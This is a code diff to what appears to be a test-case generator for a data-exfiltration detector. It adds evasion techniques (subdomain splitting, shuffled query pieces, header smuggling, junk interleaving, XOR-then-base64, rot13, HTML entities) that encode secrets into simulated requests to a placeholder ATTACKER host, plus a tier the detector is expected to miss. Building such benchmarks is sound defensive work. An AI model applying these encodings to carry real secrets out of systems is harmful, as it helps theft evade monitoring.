@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import base64
 import binascii
+import codecs
 import gzip
 import json
 import random
@@ -212,6 +213,46 @@ def _dns_tunnel(encoding: str) -> Technique:
     return technique
 
 
+def _split_subhosts(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
+    """Pieces to different names under one registrable domain."""
+    pieces = [value[i : i + 8] for i in range(0, len(value), 8)]
+    steps, carriers = [], []
+    for n, piece in enumerate(pieces):
+        quoted = urllib.parse.quote(piece, safe="")
+        host = f"n{n}.{ATTACKER}"
+        steps.append(Step("http", host, "GET", f"/c?d={quoted}", plain=True))
+        carriers.append(piece)
+    return steps, carriers
+
+
+def _split_shuffled(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
+    pieces = list(enumerate(value[i : i + 8] for i in range(0, len(value), 8)))
+    rng.shuffle(pieces)
+    steps = [
+        Step("http", ATTACKER, "GET", f"/c?i={n}&d={urllib.parse.quote(p, safe='')}")
+        for n, p in pieces
+    ]
+    return steps, [p for _n, p in pieces]
+
+
+def _split_headers(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
+    pieces = [value[i : i + 10] for i in range(0, len(value), 10)]
+    headers = tuple((f"x-trace-{n}", p.decode()) for n, p in enumerate(pieces))
+    return [Step("http", ATTACKER, "GET", "/", headers=headers)], pieces
+
+
+def _interleaved(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
+    junk = bytes(b for c in value for b in (c, rng.choice(b"abcdefghijklmnopqrstuvwxyz")))
+    step, wire = _post_json(rng, junk)
+    return [step], [wire]
+
+
+def _xor(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
+    key = rng.randint(1, 255)
+    step, wire = _post_json(rng, base64.b64encode(bytes(c ^ key for c in value)))
+    return [step], [wire]
+
+
 def _nested(*layers: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
     def encode(value: bytes) -> bytes:
         for layer in layers:
@@ -257,6 +298,8 @@ TECHNIQUES: dict[str, tuple[str, Technique]] = {
     "unicode-escape": ("encoding", _in_body(_unicode)),
     "base32": ("encoding", _in_body(base64.b32encode)),
     "reversed": ("obfuscation", _in_body(lambda v: v[::-1])),
+    "rot13": ("obfuscation", _in_body(lambda v: codecs.encode(v.decode(), "rot13").encode())),
+    "html-entities": ("obfuscation", _in_body(lambda v: b"".join(b"&#%d;" % c for c in v))),
     "dash-separated": ("obfuscation", _in_body(_sep(b"-"))),
     "dot-separated": ("obfuscation", _in_body(_sep(b"."))),
     "space-separated": ("obfuscation", _in_body(_sep(b" "))),
@@ -279,14 +322,22 @@ TECHNIQUES: dict[str, tuple[str, Technique]] = {
     "split-body-10": ("split", _split("body", 10)),
     "split-ws-8": ("split", _split("ws", 8)),
     "split-b64-12": ("split", _split("query", 12, b64)),
+    "split-subhosts": ("split", _split_subhosts),
+    "split-shuffled": ("split", _split_shuffled),
+    "split-headers": ("split", _split_headers),
     "subdomain-hex": ("dns", _subdomain("hex")),
     "subdomain-b32": ("dns", _subdomain("b32")),
     "subdomain-split": ("dns", _subdomain_split),
     "dns-tunnel-b32": ("dns", _dns_tunnel("b32")),
     "dns-tunnel-hex": ("dns", _dns_tunnel("hex")),
+    # Beyond what the detector claims: shown so the table does not flatter it.
+    "split-4": ("beyond", _split("query", 4)),
+    "swapcase": ("beyond", _in_body(bytes.swapcase)),
+    "interleaved-junk": ("beyond", _interleaved),
+    "xor-then-b64": ("beyond", _xor),
 }
 
-TIERS = ("plain", "encoding", "obfuscation", "split", "dns")
+TIERS = ("plain", "encoding", "obfuscation", "split", "dns", "beyond")
 
 
 def malicious_cases(secrets: list[Secret], seed: int, reps: int) -> list[Case]:
